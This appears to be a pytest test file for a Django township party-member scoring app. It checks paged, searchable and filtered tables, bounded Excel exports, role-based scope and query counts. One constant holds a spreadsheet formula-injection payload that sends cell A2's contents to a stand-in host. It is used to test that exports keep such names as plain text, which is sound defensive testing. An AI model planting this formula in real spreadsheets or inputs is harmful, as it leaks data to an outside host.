"""Big tables (issue 14, item 4): the township pages that grow with the data are paged, searchable,
filterable and exported to Excel (every row, bounded), on the pages and through the API, each
asker seeing and exporting only their scope."""
from __future__ import annotations

import datetime as dt
import io
import types
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext

from accounts.models import Role
from common import clock
from scoring.ledger.models import Entry
from scoring.ledger.posting import Posting, ledger_post
from scoring.periods import services
from scoring.periods.models import AnnualRating, Publication, RatingAmendment, RatingYear
from tests.factories import BranchFactory, MemberFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.invalid/?"&A2,"点击")'
PERIODS = "/t/alpha/scoring/periods"
API = "/t/alpha/api/v1/scoring/periods"


def _wall(*args) -> dt.datetime:
    """A wall-clock time as an XLSX cell holds it (no time zone)."""
    return dt.datetime(*args, tzinfo=dt.UTC).replace(tzinfo=None)


def _get(client, path):
    try:
        return client.get(path)
    finally:
        connection.set_schema_to_public()


def _sheets(response) -> dict[str, list[tuple]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def _rows(response) -> list[tuple]:
    return next(iter(_sheets(response).values()))


def _queries(client, path) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert _get(client, path).status_code == 200
    # SET search_path is sent only when the schema changes (TENANT_LIMIT_SET_CALLS), so whether
    # a request sends one depends on the request before it, not on its rows.
    return sum(1 for query in captured if not query["sql"].startswith("SET search_path"))


@pytest.fixture
def world(township_a, in_township, make_user):
    """Alpha: a near village's branch with 54 members and one named like a formula, a far village's
    branch with 3; base scores posted, January to March closed and the first quarter published."""
    with in_township(township_a):
        near, far = BranchFactory(name="近村党支部"), BranchFactory(name="远村党支部")
        near_members = [MemberFactory(branch=near, name=f"党员{i:02d}") for i in range(54)]
        near_members.append(MemberFactory(branch=near, name=EVIL))
        far_members = [MemberFactory(branch=far, name=f"远方{i}") for i in range(3)]
        with transaction.atomic():
            ledger_post(postings=[
                Posting(kind="base", member_id=m.pk, points=Decimal(60 + i % 7), occurred_on=dt.date(2026, 1, 1),
                        scoring_year=2026) for i, m in enumerate(near_members + far_members)], actor_id=None)
        for month in (1, 2, 3):
            services.month_close(year=2026, month=month)
        publication = services.publication_open(actor=None, year=2026, quarter=1)
    return types.SimpleNamespace(
        near=near, far=far, near_members=near_members, far_members=far_members, publication=publication,
        office=make_user(Role.TOWNSHIP_OFFICE, township_a),
        clerk=make_user(Role.CLERK, township_a, village_ids=[near.village_id]),
    )


# --- the ranking (the pattern the others follow) ---------------------------------------------------
def test_ranking_pages_search_and_excel(client, world):
    client.force_login(world.office)
    first = _get(client, f"{PERIODS}/ranking/").content.decode()
    assert first.count("/card/?year=") == 50
    assert "page=2" in first
    assert _get(client, f"{PERIODS}/ranking/?page=2").content.decode().count("/card/?year=") == 8
    assert _get(client, f"{PERIODS}/ranking/?q=党员07").content.decode().count("/card/?year=") == 1
    rows = _rows(_get(client, f"{PERIODS}/ranking/?format=xlsx"))
    assert len(rows) == 1 + 58  # every row, not a page
    assert EVIL in [r[2] for r in rows]  # kept as text
    api = _rows(_get(client, f"{API}/ranking/export/?year=2026&q=远方"))
    assert sorted(r[2] for r in api[1:]) == ["远方0", "远方1", "远方2"]


# --- annual rating ----------------------------------------------------------------------------------
def _rate(township, in_township, world):
    """Ratings of 2026: the first five near members excellent, 远方0 unqualified, everyone else
    qualified; 党员10 amended from qualified to excellent."""
    with in_township(township):
        now = clock.now()
        RatingYear.objects.create(year=2026, rated_at=now, members_rated=58)
        for i, member in enumerate(world.near_members + world.far_members):
            rating = "excellent" if i < 5 else "unqualified" if member.name == "远方0" else "qualified"
            AnnualRating.objects.create(year=2026, member=member, total_points=Decimal(60 + i % 7), rating=rating,
                                        rated_at=now, reasons=[f"理由{i}"])
        RatingAmendment.objects.create(year=2026, member=world.near_members[10], before="qualified",
                                       after="excellent", reason="复核", document_number="镇发〔2027〕1号",
                                       decided_on=dt.date(2027, 1, 5))


def test_rating_list_pages_searches_filters_and_exports(client, township_a, in_township, world):
    _rate(township_a, in_township, world)
    client.force_login(world.office)
    url = f"{PERIODS}/ratings/2026/"
    first = _get(client, url)
    assert [len(first.context["ratings"]), first.context["page_obj"].paginator.num_pages] == [50, 2]
    assert "共 58 行" in first.content.decode()
    second = _get(client, f"{url}?page=2")
    assert len(second.context["ratings"]) == 8
    assert _get(client, f"{url}?page=99").context["page_obj"].number == 2  # past the end: the last page
    assert len(_get(client, f"{url}?page_size=100000").context["ratings"]) == 58  # bounded at 200
    found = _get(client, f"{url}?q=党员10").context["ratings"]
    assert [(r.member.name, r.effective, [a.after for a in r.amendment_list]) for r in found] == [
        ("党员10", "excellent", ["excellent"])]
    excellent = _get(client, f"{url}?rating=excellent").context["ratings"]
    assert sorted(r.member.name for r in excellent) == ["党员00", "党员01", "党员02", "党员03", "党员04", "党员10"]
    far = _get(client, f"{url}?branch={world.far.pk}&rating=unqualified").context["ratings"]
    assert [r.member.name for r in far] == ["远方0"]

    rows = _rows(_get(client, f"{url}?format=xlsx&page=2"))
    assert rows[0] == ("姓名", "所在支部", "总积分", "民主评议", "评定等次", "更正前等次", "一票否决", "评定理由")
    assert len(rows) == 1 + 58  # every row, whatever page the link came from
    amended = next(r for r in rows if r[0] == "党员10")
    assert amended[4:6] == ("优秀", "合格")
    assert next(r for r in rows if r[0] == EVIL)[0] == EVIL
    filtered = _rows(_get(client, f"{API}/ratings/export/?year=2026&rating=excellent&q=党员1"))
    assert [r[0] for r in filtered[1:]] == ["党员10"]
    listed = _get(client, f"{API}/ratings/?year=2026&branch={world.far.pk}").json()
    assert sorted(r["member_name"] for r in listed) == ["远方0", "远方1", "远方2"]


def test_rating_scope_clerk_and_other_township(client, township_a, township_b, in_township, make_user, world):
    _rate(township_a, in_township, world)
    client.force_login(world.clerk)
    url = f"{PERIODS}/ratings/2026/"
    rows = _rows(_get(client, f"{url}?format=xlsx"))
    assert len(rows) == 1 + 55
    assert not any(str(r[0]).startswith("远方") for r in rows)
    assert _get(client, f"{url}?branch={world.far.pk}").status_code == 404
    assert _get(client, f"{url}?branch={world.far.pk}&format=xlsx").status_code == 404
    assert _get(client, f"{API}/ratings/export/?year=2026&branch={world.far.pk}").status_code == 404
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_b))
    assert _get(client, f"{url}?format=xlsx").status_code == 403
    assert _get(client, f"/t/beta/scoring/periods/ratings/2026/?branch={world.near.pk}").status_code == 404
    assert _rows(_get(client, "/t/beta/api/v1/scoring/periods/ratings/export/?year=2026")) == [
        ("姓名", "所在支部", "总积分", "民主评议", "评定等次", "更正前等次", "一票否决", "评定理由")]


# --- month detail -------------------------------------------------------------------------------------
def test_month_detail_pages_searches_filters_and_exports(client, world):
    client.force_login(world.office)
    url = f"{PERIODS}/months/2026/1/"
    first = _get(client, url)
    assert [len(first.context["scores"]), first.context["page_obj"].paginator.count] == [50, 58]
    page = first.content.decode()
    assert 'class="hash"' in page
    assert "?page=2" in page
    assert len(_get(client, f"{url}?page=2").context["scores"]) == 8
    kept = _get(client, f"{url}?branch={world.near.pk}&q=党员").content.decode()
    assert f"?branch={world.near.pk}&amp;q=%E5%85%9A%E5%91%98&amp;page=2" in kept  # page links keep the filters
    assert [s.member.name for s in _get(client, f"{url}?q=党员07").context["scores"]] == ["党员07"]
    far = _get(client, f"{url}?branch={world.far.pk}")
    assert sorted(s.member.name for s in far.context["scores"]) == ["远方0", "远方1", "远方2"]
    assert [t.branch.name for t in far.context["totals"]] == ["远村党支部"]

    sheets = _sheets(_get(client, f"{url}?format=xlsx"))
    members, totals = sheets["党员"], sheets["支部合计"]
    assert members[0] == ("所在支部", "支部内排名", "姓名", "本月积分", "本年度累计")
    assert len(members) == 1 + 58
    assert EVIL in [r[2] for r in members]
    # January holds the base scores: 60 + i % 7 for the i-th member (55 near, then 3 far)
    assert sorted(totals[1:]) == [("近村党支部", 3462, 55), ("远村党支部", 187, 3)]
    api = _sheets(_get(client, "/t/alpha/api/v1/scoring/periods/months/2026/1/export/?q=远方"))
    assert sorted(r[2] for r in api["党员"][1:]) == ["远方0", "远方1", "远方2"]
    summary = _get(client, f"{API}/months/2026/1/?branch={world.far.pk}").json()
    assert [len(summary["members"]), [b["branch_name"] for b in summary["branches"]]] == [3, ["远村党支部"]]


def test_month_detail_scope(client, township_b, make_user, world):
    client.force_login(world.clerk)
    url = f"{PERIODS}/months/2026/1/"
    sheets = _sheets(_get(client, f"{url}?format=xlsx"))
    assert len(sheets["党员"]) == 1 + 55
    assert [r[0] for r in sheets["支部合计"][1:]] == ["近村党支部"]
    assert _get(client, f"{url}?branch={world.far.pk}&format=xlsx").status_code == 404
    assert _get(client, f"{API}/months/2026/1/export/?branch={world.far.pk}").status_code == 404
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_b))
    assert _get(client, f"{url}?format=xlsx").status_code == 403
    assert _get(client, "/t/beta/scoring/periods/months/2026/1/?format=xlsx").status_code == 404
    assert _get(client, "/t/beta/api/v1/scoring/periods/months/2026/1/export/").status_code == 404


def test_month_hash_cannot_widen_a_phone(client, world):
    """The head hash (64 characters) breaks anywhere and its grid column may shrink below it."""
    from django.contrib.staticfiles import finders

    css = open(finders.find("common/app.css"), encoding="utf-8").read()  # noqa: SIM115, PTH123
    assert "code, .hash { overflow-wrap: anywhere; word-break: break-all; }" in css
    assert "dl.props { display:grid; grid-template-columns:max-content minmax(0, 1fr);" in css
    assert "dl.props dd { min-width:0;" in css


# --- quarterly notices --------------------------------------------------------------------------------
def test_publication_list_is_paged(client, township_a, in_township, world):
    with in_township(township_a):
        now = clock.now()
        for i in range(55):
            Publication.objects.create(year=2000 + i // 4, quarter=i % 4 + 1, version=1, opened_at=now,
                                       objections_close_at=now, data={"branches": []}, head_seq=0,
                                       status=Publication.Status.CLOSED)
    client.force_login(world.clerk)
    first = _get(client, f"{PERIODS}/publications/")
    assert [len(first.context["publications"]), first.context["page_obj"].paginator.count] == [50, 56]
    assert first.context["publications"][0].pk == world.publication.pk  # newest first
    assert len(_get(client, f"{PERIODS}/publications/?page=2").context["publications"]) == 6
    assert _queries(client, f"{PERIODS}/publications/?page_size=5") == _queries(
        client, f"{PERIODS}/publications/?page_size=50")


def test_notice_filters_by_branch_and_name_and_exports(client, world):
    client.force_login(world.office)
    url = f"{PERIODS}/publications/{world.publication.pk}/"
    far = _get(client, f"{url}?branch={world.far.pk}")
    assert [b["name"] for b in far.context["branches"]] == ["远村党支部"]
    found = _get(client, f"{url}?q=党员07")
    assert [(b["name"], [m["name"] for m in b["members"]]) for b in found.context["branches"]] == [
        ("近村党支部", ["党员07"])]
    printed = _get(client, f"{url}print/?q=党员07").content.decode()  # the A4 notice keeps every row
    assert "党员08" in printed
    assert "远方2" in printed

    rows = _rows(_get(client, f"{url}?format=xlsx"))
    assert rows[0] == ("所在支部", "排名", "姓名", "本季度积分", "本年度累计")
    assert len(rows) == 1 + 58
    evil = next(r for r in rows if r[2] == EVIL)
    assert evil[0] == "近村党支部"
    assert isinstance(evil[4], int | float)
    api = _rows(_get(client, f"{API}/publications/{world.publication.pk}/export/?branch={world.far.pk}"))
    assert sorted(r[2] for r in api[1:]) == ["远方0", "远方1", "远方2"]
    detail = _get(client, f"{API}/publications/{world.publication.pk}/?q=远方1").json()
    assert [[m["name"] for m in b["members"]] for b in detail["branches"]] == [["远方1"]]


def test_notice_scope_and_bound(client, township_b, make_user, world, monkeypatch):
    client.force_login(world.clerk)
    url = f"{PERIODS}/publications/{world.publication.pk}/"
    rows = _rows(_get(client, f"{url}?format=xlsx"))
    assert len(rows) == 1 + 55
    monkeypatch.setattr("common.tables.EXPORT_MAX_ROWS", 54)
    assert _get(client, f"{url}?format=xlsx").status_code == 302
    assert _get(client, f"{API}/publications/{world.publication.pk}/export/").status_code == 400
    assert len(_rows(_get(client, f"{url}?format=xlsx&q=党员0"))) == 1 + 10
    monkeypatch.undo()
    assert {r[0] for r in rows[1:]} == {"近村党支部"}
    assert _get(client, f"{url}?branch={world.far.pk}").status_code == 404
    assert _get(client, f"{API}/publications/{world.publication.pk}/export/?branch={world.far.pk}").status_code == 404
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_b))
    assert _get(client, f"/t/beta/scoring/periods/publications/{world.publication.pk}/?format=xlsx").status_code == 404


# --- entries ------------------------------------------------------------------------------------------
@pytest.fixture
def entries(township_a, in_township, scoring_setup, world):
    """35 entries by the clerk about near members (one about the member named like a formula) and
    3 by the office about far members."""
    setup = scoring_setup(township_a, year=2026)
    with in_township(township_a):
        made = []
        for i in range(35):
            member = world.near_members[-1] if i == 0 else world.near_members[i]
            made.append(Entry.objects.create(member=member, rule=setup.rules["B01"], occurred_on=dt.date(2026, 11, 2),
                                             points=2, entered_by_id=world.clerk.pk, lag_days=1,
                                             status=Entry.Status.POSTED if i % 2 else Entry.Status.IN_REVIEW))
        for member in world.far_members:
            made.append(Entry.objects.create(member=member, rule=setup.rules["D01"], occurred_on=dt.date(2026, 11, 3),
                                             points=-2, entered_by_id=world.office.pk, lag_days=0,
                                             status=Entry.Status.POSTED))
    return made


def test_entries_list_searches_keeps_filters_and_exports_every_page(client, world, entries):
    client.force_login(world.office)
    url = "/t/alpha/scoring/entries/"
    first = _get(client, url)
    assert [len(first.context["page_obj"].object_list), first.context["page_obj"].paginator.count] == [30, 38]
    assert [e.member.name for e in _get(client, f"{url}?q=党员07").context["page_obj"]] == ["党员07"]
    assert len(_get(client, f"{url}?q=D01").context["page_obj"].object_list) == 3  # item code
    assert len(_get(client, f"{url}?q=无故不参加").context["page_obj"].object_list) == 3  # item name
    page = _get(client, f"{url}?q=党员&status=posted&level=branch").content.decode()
    assert '<input type="hidden" name="level" value="branch">' in page  # a filter without a box is kept
    assert "format=xlsx" in page

    rows = _rows(_get(client, f"{url}?format=xlsx&page=2"))
    assert rows[0] == ("党员", "所在支部", "条目编号", "条目", "发生日期", "分值", "状态", "补录", "录入时间", "录入人",
                       "备注")
    assert len(rows) == 1 + 38  # every page
    evil = next(r for r in rows if r[0] == EVIL)
    assert evil[1:3] == ("近村党支部", "B01")
    assert evil[8] == _wall(2026, 11, 20, 10, 0)  # recorded at, in the township's zone
    assert evil[9] == str(world.clerk)
    posted = _rows(_get(client, f"{url}?format=xlsx&status=posted&q=远方"))
    assert sorted(r[0] for r in posted[1:]) == ["远方0", "远方1", "远方2"]
    api = _rows(_get(client, "/t/alpha/api/v1/scoring/entries/export/?q=党员&status=in_review"))
    assert len(api) == 1 + 17  # 18 in review, one about the member whose name has no 党员
    assert _get(client, "/t/alpha/api/v1/scoring/entries/?q=D01").json()["count"] == 3


def test_entries_export_scope_and_bound(client, township_b, make_user, world, entries, monkeypatch):
    client.force_login(world.clerk)
    url = "/t/alpha/scoring/entries/"
    rows = _rows(_get(client, f"{url}?format=xlsx"))
    assert len(rows) == 1 + 35
    assert not any(str(r[0]).startswith("远方") for r in rows)
    assert _rows(_get(client, f"{url}?format=xlsx&mine=&branch={world.far.pk}")) == rows[:1]
    assert _rows(_get(client, f"/t/alpha/api/v1/scoring/entries/export/?branch={world.far.pk}")) == rows[:1]
    monkeypatch.setattr("common.tables.EXPORT_MAX_ROWS", 34)
    refused = _get(client, f"{url}?format=xlsx&status=")
    assert (refused.status_code, refused["Location"]) == (302, f"{url}?status=")
    assert "导出将超过 34 行，请缩小筛选范围后重试。" in _get(client, refused["Location"]).content.decode()
    assert _get(client, "/t/alpha/api/v1/scoring/entries/export/").status_code == 400
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_b))
    assert _get(client, f"{url}?format=xlsx").status_code == 403
    assert len(_rows(_get(client, "/t/beta/scoring/entries/?format=xlsx"))) == 1


# --- query counts -------------------------------------------------------------------------------------
def test_paged_pages_do_not_query_per_row(client, township_a, in_township, world, entries):
    _rate(township_a, in_township, world)
    client.force_login(world.office)
    for path in (f"{PERIODS}/months/2026/1/", f"{PERIODS}/ratings/2026/", f"{PERIODS}/ranking/",
                 "/t/alpha/scoring/entries/"):
        _get(client, path)  # fills the township's caches (e.g. the ranking's list of years)
        assert _queries(client, f"{path}?page_size=5") == _queries(client, f"{path}?page_size=50"), path


def test_exports_are_in_the_openapi_schemas(client, township_a, make_user):
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_a))  # the schema needs a login
    paths = _get(client, "/t/alpha/api/v1/schema/?format=json").json()["paths"]
    exports = {"/t/{code}/api/v1/scoring/periods/ranking/export/", "/t/{code}/api/v1/scoring/periods/ratings/export/",
               "/t/{code}/api/v1/scoring/periods/months/{year}/{month}/export/",
               "/t/{code}/api/v1/scoring/periods/publications/{id}/export/",
               "/t/{code}/api/v1/scoring/entries/export/", "/t/{code}/api/v1/audit-events/export/"}
    assert exports <= set(paths)
    for path in exports:
        assert "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" in (
            paths[path]["get"]["responses"]["200"]["content"]), path
    ratings = {p["name"] for p in paths["/t/{code}/api/v1/scoring/periods/ratings/"]["get"]["parameters"]}
    assert {"year", "q", "branch", "rating"} <= ratings
    entries = {p["name"] for p in paths["/t/{code}/api/v1/scoring/entries/"]["get"]["parameters"]}
    assert "q" in entries
    client.force_login(make_user(Role.COUNTY_ADMIN))
    assert "/api/v1/audit-events/export/" in _get(client, "/api/v1/schema/?format=json").json()["paths"]
